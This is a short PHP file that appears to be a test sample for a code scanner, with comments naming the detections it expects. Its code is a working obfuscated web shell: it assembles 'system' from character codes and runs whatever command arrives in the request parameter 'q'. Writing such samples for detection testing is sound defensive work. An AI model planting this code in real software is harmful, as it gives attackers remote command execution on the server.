<?php
// want: php_request_command_exec php_hidden_function_name
// fold: system
$n = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109);
$n($_REQUEST['q']);
